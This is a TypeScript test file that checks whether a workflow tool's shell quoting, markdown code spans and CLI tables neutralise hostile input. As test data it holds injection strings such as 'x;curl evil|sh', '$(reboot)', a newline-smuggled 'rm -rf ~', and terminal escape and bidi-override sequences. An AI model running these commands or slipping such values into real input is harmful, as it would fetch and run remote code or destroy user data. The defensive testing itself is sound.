import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { formatFields, formatTable, inert } from '../../../src/ops/output';
import { markdownCode, shellCommand, shellQuote } from '../../../src/util/shell-quote';
import { currentDetailsOf } from '../../../src/workflows/order-details';
import type { OrderStatus } from '../../../src/workflows/order-definitions';

/** What bash makes of a pasted line: the argv of `printf '%s\0'`, never anything run. */
function argvOf(line: string): string[] {
  const r = spawnSync('bash', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout.split('\0').slice(0, -1);
}

describe('operator output is inert (issue 17)', () => {
  const hostile = [
    'x;curl evil|sh',
    "it's $(reboot) `id` & > /tmp/x",
    'line\nrm -rf ~',
    'esc\u001b[2J\u001b]0;title\u0007',
    '',
    'plain-id_1.2:3',
  ];

  it('shellQuote gives one word that bash reads back as exactly the input', () => {
    for (const arg of hostile) {
      assert.deepEqual(argvOf(shellQuote(arg)), [arg], JSON.stringify(arg));
      assert.ok(
        !shellQuote(arg).includes('\n') && !shellQuote(arg).includes('\u001b'),
        'no raw controls',
      );
    }
    assert.equal(shellQuote('order-123'), 'order-123');
    assert.deepEqual(argvOf(shellCommand(['a b', 'c'])), ['a b', 'c']);
  });

  it('markdownCode keeps backticks inside the code span', () => {
    assert.equal(markdownCode('a`b'), '``a`b``');
    assert.equal(markdownCode('`x`'), '`` `x` ``');
  });

  it("the Web UI's current details quote the order ID in every command", () => {
    const id = 'x;curl evil|sh';
    const status = {
      orderId: id,
      step: 'needs_attention',
      parked: { step: 'email', since: '2026-01-01T00:00:00Z', error: 'boom' },
      keys: { email: `order:${id}:email` },
      recoveryPoints: [],
    } as unknown as OrderStatus;
    const text = currentDetailsOf(status);
    for (const verb of ['retry', 'resolve', 'cancel']) {
      const line = new RegExp(`\`(npx onceflow orders ${verb} [^\`]+)\``).exec(text)?.[1];
      assert.ok(line, `${verb} command in ${text}`);
      assert.deepEqual(argvOf(line), ['npx', 'onceflow', 'orders', verb, id]);
    }
  });

  it('CLI tables and fields escape control characters and bidi overrides', () => {
    const key = 'k\u001b[31mRED\r\u202eevil\n';
    const table = formatTable(['KEY'], [[key]]);
    const fields = formatFields([['key', key]]);
    for (const out of [table, fields]) {
      for (const raw of ['\u001b', '\r', '\u202e'])
        assert.ok(!out.includes(raw), JSON.stringify(out));
      assert.ok(out.includes('k\\x1b[31mRED\\r\\u202eevil\\n'), out);
    }
    assert.equal(inert('plain'), 'plain');
  });
});
